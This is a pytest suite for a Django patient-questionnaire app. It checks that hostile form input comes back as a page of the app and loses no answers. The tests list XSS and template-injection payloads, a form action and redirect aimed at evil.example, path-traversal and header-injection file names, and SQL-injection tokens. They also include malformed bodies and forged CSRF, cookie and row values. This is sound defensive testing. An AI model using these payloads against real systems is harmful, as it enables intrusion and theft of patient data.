"""What hostile browsers post: markup, forged names and numbers, broken bodies; nothing of it works.

No test here looks for one answer only. Whatever is sent, the answer is a page of ours, never a 500,
and what a patient had typed before is still there.
"""

import re
from collections.abc import Callable
from typing import Any

import pytest
from django.conf import settings

from keepwell.products.forms.actions.links import revoke_link
from keepwell.products.forms.models import Draft, FormLink, Submission
from keepwell.safeguards.access.purposes import Purpose
from keepwell.safeguards.persons.models import Person
from keepwell.safeguards.records.disclosure import disclose
from keepwell.safeguards.tenancy import wall
from tests.at_once import at_once
from tests.people import SAFARI, Clinic, browser, browser_of
from tests.products.forms.pages.markup import DATE, Markup, fill
from tests.products.forms.pages.patients import (
    ABOUT_PAT,
    Patient,
    author,
    publish,
    reference_in,
)

PAYLOADS = (
    '<script>alert("kw")</script>',
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</textarea></title></style><script>alert(1)</script>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "` onclick=alert(1) `",
    "<a href=javascript:alert(1)>press</a>",
    "<!--><script>alert(1)</script>-->",
    "<base href=//evil.example><form action=//evil.example><input name=handle>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '{{ 7|add:"7" }}{% debug %}{% include "x" %}',
    "\u2028<script>alert(1)</script>\u2029",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<x/onpointerrawupdate=alert(1)//",
)
HARMLESS = "Nothing odd"
# Several at once: each has its own quotes to break out of.
ROUNDS = tuple(PAYLOADS[at : at + 4] for at in range(0, len(PAYLOADS), 4))


def _item(link_id: str, kind: str, **more: Any) -> dict[str, Any]:
    return {"linkId": link_id, "type": kind, "text": link_id.title(), **more}


OPTIONS = {"answerOption": [{"valueCoding": {"code": "a", "display": "First"}}]}
EVERYTHING: dict[str, Any] = {
    "resourceType": "Questionnaire",
    "status": "active",
    "title": "Everything that can be asked",
    "item": [
        _item(
            "all",
            "group",
            item=[
                _item("string", "string"),
                _item("text", "text"),
                _item("url", "url"),
                _item("date", "date"),
                _item("datetime", "dateTime"),
                _item("time", "time"),
                _item("integer", "integer"),
                _item("decimal", "decimal"),
                _item("quantity", "quantity"),
                _item("boolean", "boolean"),
                _item("choice", "choice", **OPTIONS),
                _item("several", "choice", repeats=True, **OPTIONS),
                _item("open", "open-choice", **OPTIONS),
                _item("lines", "string", repeats=True),
                _item("drug", "group", repeats=True, item=[_item("dose", "string")]),
                _item("file", "attachment"),
            ],
        )
    ],
}
WORDS: dict[str, Any] = {
    "resourceType": "Questionnaire",
    "status": "active",
    "title": "Words",
    "item": [
        _item(
            "words",
            "group",
            item=[
                _item("name", "string", text="Full name"),
                _item("born", "date", text="Date of birth"),
                _item("text", "text", text="Say more"),
                _item("open", "open-choice", text="Choose one", **OPTIONS),
                _item("drug", "group", repeats=True, item=[_item("dose", "string")]),
                _item("letter", "attachment", text="Add a letter"),
            ],
        )
    ],
}


def check_markup(text: str, like: str) -> None:
    """Compare a page with the same page of somebody harmless: no element and attribute is new."""
    page, usual = Markup(text), Markup(like)
    assert page.elements <= usual.elements
    assert not [one for one in page.addresses if "evil" in one or "script:" in one.lower()]


def is_ours(page: Any) -> bool:
    """Tell whether an answer is a whole page, not a bare word and not a failure."""
    return b"<h1" in page.content and page.status_code < 500


def answers_of(clinic: Clinic) -> str:
    """Return everything the one draft or submission holds, opened."""
    with disclose(clinic.console, Purpose.CARE) as scope, wall.reading(clinic.organisation.id):
        row = Draft.objects.first() or Submission.objects.get()
        scope.open([row], "answers")
        return str(row.answers.open())


# Markup in answers and file names.


def check_pages(pages: list[str], usual: list[str], payloads: tuple[str, ...]) -> None:
    like = "".join(usual)
    for page in pages:
        check_markup(page, like)
        assert not [one for one in payloads if "<" in one and one in page]


def test_markup_typed_into_every_kind_of_question_comes_back_as_text(clinic: Clinic) -> None:
    token = publish(clinic, EVERYTHING)
    usual = fill(Patient(token), HARMLESS, file=HARMLESS, is_fit=False)
    assert len({one["name"] for one in Markup("".join(usual)).inputs}) > 20
    for payloads in ROUNDS:
        words = " ".join(payloads)
        check_pages(fill(Patient(token), words, file=words, is_fit=False), usual, payloads)


def _sent_with(clinic: Clinic, token: str, words: str, *, file: str) -> tuple[list[str], Any]:
    """Fill everything with these words, send it; return the pages on the way and the download."""
    pat = Patient(token)
    pages = fill(pat, words, file=file, is_fit=True)
    pages.append(pat.open(f"{pat.path}check/"))
    pat.send()
    reference_in(pat.text)
    download = _as_staff(clinic, pages)
    return pages, download


def _as_staff(clinic: Clinic, pages: list[str]) -> Any:
    """Open everything that arrived last, as Ada; return the file's download."""
    ada = browser_of(clinic.owner)
    with wall.reading(clinic.organisation.id):
        sent = Submission.objects.order_by("-pk")[0]
    opened = ada.get(f"/inbox/{sent.pk}/?for=care").content.decode()
    person = ada.get(f"/persons/{sent.person_id}/?for=care").content.decode()
    lists = ("/", "/inbox/", "/persons/", "/trail/")
    listed = [ada.get(address).content.decode() for address in lists]
    pages += [opened, person, *listed]
    found = re.search(rf"/inbox/{sent.pk}/files/[0-9a-f-]+/[?]for=care", opened)
    return ada.get(found[0]) if found else None


def test_markup_in_answers_and_file_names_reaches_no_page_as_markup(clinic: Clinic) -> None:
    token = publish(clinic, WORDS)
    usual, _ = _sent_with(clinic, token, HARMLESS, file="letter.pdf")
    hostile = []
    for payloads in ROUNDS:
        words = " ".join(payloads)
        pages, file = _sent_with(clinic, token, words, file=f"{payloads[0]}.pdf")
        hostile += pages
        assert file["Content-Type"] == "application/pdf"
        assert file["Content-Disposition"].startswith("attachment; ")
        assert "sandbox" in file["Content-Security-Policy"]
    again, _ = _sent_with(clinic, token, HARMLESS, file="letter.pdf")  # lists have grown
    check_pages(hostile, [*usual, *again], PAYLOADS)
    assert any("&lt;script&gt;" in page for page in hostile), "the payloads were shown nowhere"


@pytest.mark.parametrize(
    "name",
    [
        'a"\r\nSet-Cookie: kw=1\r\nX: "b.pdf',
        "a.pdf\r\n\r\n<script>alert(1)</script>",
        "../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "C:\\secret.pdf",
        "a\x00.pdf",
        "\u202efdp.exe",
        "a" * 250,
        ".",
        "a;filename=b.html",
    ],
)
def test_a_hostile_file_name_neither_leaves_its_folder_nor_ends_its_header(
    clinic: Clinic, name: str
) -> None:
    token = publish(clinic, WORDS)
    _, file = _sent_with(clinic, token, HARMLESS, file=name)
    if name == ".":  # no name at all: Django drops the file
        assert file is None
        return
    assert file.status_code == 200
    said = file["Content-Disposition"]
    assert said.isprintable()
    assert said.count("filename=") == 1
    assert "/" not in said
    assert "\\" not in said
    assert "Set-Cookie" not in file.headers
    assert "kw" not in file.cookies


# Broken bodies.


def half(clinic: Clinic, pat: Patient) -> Callable[[], None]:
    """Answer the first page; return a check that it is still there."""
    pat.open()
    pat.begin()
    pat.answer(ABOUT_PAT)

    def kept() -> None:
        assert "Pat Whitfield" in answers_of(clinic)
        assert 'value="Pat Whitfield"' in pat.open(f"{pat.path}1/")

    return kept


FORM = "application/x-www-form-urlencoded"
PARTS = "multipart/form-data; boundary=x"
PART = b'--x\r\nContent-Disposition: form-data; name="f4"\r\n'
MANY = "&".join(f"f{number}=1" for number in range(1_100)).encode()
# Body, type, and the status where only one is right.
BODIES: dict[str, tuple[bytes, str, int]] = {
    "a thousand and more fields": (MANY, FORM, 413),
    "the same field a thousand times and more": (b"f4=1&" * 1_100, FORM, 413),
    "a hundred and more files": (PART.replace(b'4"', b'4"; filename="a"') * 1_100, PARTS, 413),
    "more than is ever read": (b"f4=" + b"a" * settings.DATA_UPLOAD_MAX_MEMORY_SIZE, FORM, 413),
    "another encoding": (b"f4=a", f"{FORM}; charset=utf-16", 400),
    "an encoding that is none": (b"f4=a", f"{FORM}; charset=nonsense", 0),
    "no boundary": (b"f4=a", "multipart/form-data", 400),
    "an unended part": (PART, PARTS, 0),
    "base64 that is none": (
        PART + b"Content-Transfer-Encoding: base64\r\n\r\n=\r\n--x--\r\n",
        PARTS,
        0,
    ),
    "json": (b'{"f4": "a"}', "application/json", 0),
    "no type": (b"f4=a", "", 0),
    "control characters": (b"f4=%00%01%1b&act=%00", FORM, 0),
    "half a surrogate": (b"f4=%ED%A0%80&act=%ED%BF%BF", FORM, 0),
    "bytes that are no text": (b"f4=\xff\xfe\x00\xd8", FORM, 0),
    "names that are none": (b"=&=a&&%00=b&__proto__=1&f=1&f-=2&f4-=3", FORM, 0),
}


@pytest.mark.parametrize("what", sorted(BODIES))
def test_a_body_that_is_no_form_of_ours_is_answered_with_a_page_and_loses_nothing(
    clinic: Clinic, pat: Patient, what: str
) -> None:
    kept = half(clinic, pat)
    body, kind, status = BODIES[what]
    answer = pat.client.generic("POST", f"{pat.path}2/", body, content_type=kind)
    assert answer.status_code == 302 or is_ours(answer)
    assert not status or answer.status_code == status
    kept()


def test_a_form_that_did_not_come_from_our_page_is_refused_with_a_page(
    clinic: Clinic, pat: Patient
) -> None:
    kept = half(clinic, pat)
    strict = browser(agent=SAFARI, has_csrf_checks=True)
    strict.cookies = pat.client.cookies
    for path in ("", "1/", "send/", "leave/"):
        for data in ({}, {"csrfmiddlewaretoken": "a" * 64}):
            answer = strict.post(f"{pat.path}{path}", {**data, "act": "clear"})
            assert answer.status_code == 403
            assert is_ours(answer)
    kept()


# Forged names, numbers and acts.


TOKENS = (
    "..", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%00", "a" * 5_000, "%E2%80%AE", "<script>",
    "' OR 1=1--", "0" * 26, "%", "%ff%fe", "\u0130" * 26,
)  # fmt: skip


@pytest.mark.parametrize("token", TOKENS)
@pytest.mark.parametrize("kind", ["f", "e"])
def test_a_token_that_is_none_gets_the_help_page(clinic: Clinic, kind: str, token: str) -> None:
    for path in (f"/{kind}/{token}/", f"/{kind}/{token}/1/", f"/{kind}/{token}/send/"):
        answer = browser().post(path)
        assert answer.status_code == 404
        assert is_ours(answer)
        assert b"<script>" not in answer.content


def test_pages_that_are_not_there_are_not_there(clinic: Clinic, pat: Patient) -> None:
    kept = half(clinic, pat)
    for number in ("0", "99", "-1", "10" * 30, "1%00", "٣"):
        for answer in (
            pat.client.get(f"{pat.path}{number}/"),
            pat.client.post(f"{pat.path}{number}/", {"f1": "Forged"}),
        ):
            assert answer.status_code == 404
            assert is_ours(answer)
    kept()


ACTS = (
    "remove:f1:0", "remove:f0:0", "add:f0", "add:f1", "add:f9999", "add:f5_1_2_3", "remove:f5:",
    "remove:f6:" + "a" * 64, "remove:../../1:1", "add:" + "f1" * 200, "show", "clear", "send",
    "check", "Continue", "", "\u0000", "add:f1\n", "add:f\u0661",
)  # fmt: skip


def test_acts_that_no_button_has_lose_nothing(clinic: Clinic, pat: Patient) -> None:
    kept = half(clinic, pat)
    pat.open(f"{pat.path}1/")
    born = pat.name_of("Date of birth")
    about = {pat.name_of("Full name"): "Pat Whitfield"}
    about |= {f"{born}-{part}": one for part, one in DATE.items()}
    for act in ACTS:
        for number, data in ((1, about), (2, {}), (3, {})):
            answer = pat.client.post(f"{pat.path}{number}/", {**data, "act": act})
            assert answer.status_code == 302
            assert is_ours(pat.client.get(answer["Location"]))
    kept()


ROWS = (
    {"f{}-rows": ["-1", "abc", "1e3", "٣", "", "9999999", "0x1"]},
    {"f{}-rows": [str(number) for number in range(900)]},
    {"f{}-rows": ["999999"], "f{}_999999": "Forged"},
    {"f{}_5": "Forged", "f{}_0_0": "Forged", "f{}_": "Forged", "f{}_00": "Forged"},
)


@pytest.mark.parametrize("forged", ROWS, ids=["odd", "many", "far", "nested"])
def test_rows_that_no_page_showed_are_taken_as_rows_or_not_at_all(
    clinic: Clinic, forged: dict[str, Any]
) -> None:
    pat = Patient(publish(clinic, WORDS))
    pat.open()
    pat.begin()
    pat.open(f"{pat.path}2/")
    field = re.search(r'name="f(\d+)-rows"', pat.text)
    assert field
    dose = int(field[1]) + 1
    data = {name.format(field[1] if "rows" in name else dose): one for name, one in forged.items()}
    pat.post(pat.here, {**data, "act": "continue"})
    assert is_ours(pat.page)
    shown = pat.open(f"{pat.path}2/")
    assert is_ours(pat.page)
    rows = re.findall(rf'name="f{field[1]}-rows" value="(\d+)"', shown)
    assert len(rows) <= 50
    assert len(set(rows)) == len(rows)
    assert is_ours(pat.client.get(f"{pat.path}check/"))


def test_answers_to_questions_that_are_not_asked_are_dropped(clinic: Clinic, pat: Patient) -> None:
    pat.open()
    pat.begin()
    pat.answer(ABOUT_PAT)
    smoke = pat.name_of("Do you smoke?")
    pat.answer({"Do you smoke?": "yes"})
    cigarettes = pat.name_of("How many a day?")
    pat.post(pat.here, {cigarettes: "77", "act": "continue"})
    pat.post(f"{pat.path}2/", {smoke: "no", cigarettes: "78", "act": "continue"})
    pat.post(f"{pat.path}3/", {cigarettes: "79", "act": "continue"})
    reference_in(pat.send().content.decode())
    said = answers_of(clinic)
    assert "Pat Whitfield" in said
    assert "cigarettes" not in said


def test_answers_to_questions_of_another_page_are_not_taken(clinic: Clinic, pat: Patient) -> None:
    kept = half(clinic, pat)
    pat.post(f"{pat.path}2/", {"f1": "Forged Name", "f999": "Forged Name", "act": "continue"})
    kept()
    assert "Forged" not in answers_of(clinic)


@pytest.mark.parametrize("handle", ["", "a", "A" * 43, "A" * 5_000, "../x", "é" * 43, "%00"])
def test_a_made_up_handle_holds_nothing(clinic: Clinic, pat: Patient, handle: str) -> None:
    half(clinic, pat)
    name = next(one for one in pat.client.cookies if "kw-form" in one)
    stranger = Patient(pat.token)
    stranger.client.cookies[name] = handle
    assert "Start now" in stranger.open(f"{pat.path}1/")
    assert "Pat Whitfield" not in stranger.text


def test_a_handle_of_one_form_holds_nothing_at_another(clinic: Clinic, pat: Patient) -> None:
    half(clinic, pat)
    other = Patient(publish(clinic))
    other.open()
    other.begin()
    mine = next(one for name, one in pat.client.cookies.items() if "kw-form" in name)
    theirs = next(name for name in other.client.cookies if "kw-form" in name)
    other.client.cookies[theirs] = mine.value
    assert "Start now" in other.open(f"{other.path}1/")
    assert "Pat Whitfield" not in other.text


# Two tabs, and a link that ends meanwhile.


def another_tab(pat: Patient) -> Patient:
    tab = Patient(pat.token, client=browser(agent=SAFARI))
    tab.client.cookies = pat.client.cookies
    return tab


def test_two_tabs_at_once_keep_the_answers_of_both_pages(clinic: Clinic, pat: Patient) -> None:
    pat.open()
    pat.begin()
    first, second = another_tab(pat), another_tab(pat)
    first.open(f"{pat.path}1/")
    second.open(f"{pat.path}2/")
    at_once(
        [
            lambda: first.answer(ABOUT_PAT),
            lambda: second.answer({"Do you smoke?": "yes"}),
            lambda: another_tab(pat).open(f"{pat.path}check/"),
        ]
    )
    said = pat.open(f"{pat.path}check/")
    assert "Pat Whitfield" in said
    assert "Do you smoke?" in said
    assert "Pat Whitfield" in answers_of(clinic)
    assert "True" in answers_of(clinic)


def test_the_same_page_from_two_tabs_keeps_one_of_both_whole(clinic: Clinic, pat: Patient) -> None:
    pat.open()
    pat.begin()
    tabs = [another_tab(pat) for _ in range(4)]
    for tab in tabs:
        tab.open(f"{pat.path}1/")

    def typing(tab: Patient, number: int) -> Callable[[], str]:
        about = {"Full name": f"Pat {number}", "Date of birth": f"195{number}-03-09"}
        return lambda: tab.answer({**ABOUT_PAT, **about})

    at_once([typing(tab, number) for number, tab in enumerate(tabs)])
    kept = re.search(r"Pat (\d)", answers_of(clinic))
    assert kept
    assert f"195{kept[1]}-03-09" in answers_of(clinic)


def test_a_link_withdrawn_while_somebody_answers_helps_and_takes_nothing_more(
    clinic: Clinic, pat: Patient
) -> None:
    half(clinic, pat)
    with wall.reading(clinic.organisation.id):
        link = FormLink.objects.get()
    revoke_link(author(clinic), link_id=link.pk)
    for path in ("", "1/", "2/", "check/", "send/", "leave/"):
        assert "has closed this link" in pat.post(f"{pat.path}{path}", {"act": "continue"}) or (
            pat.page.status_code == 405
        )
        assert "has closed this link" in pat.open(f"{pat.path}{path}")
        assert pat.page.status_code == 404
    with wall.reading(clinic.organisation.id):
        assert Submission.objects.count() == Person.objects.count() == 0
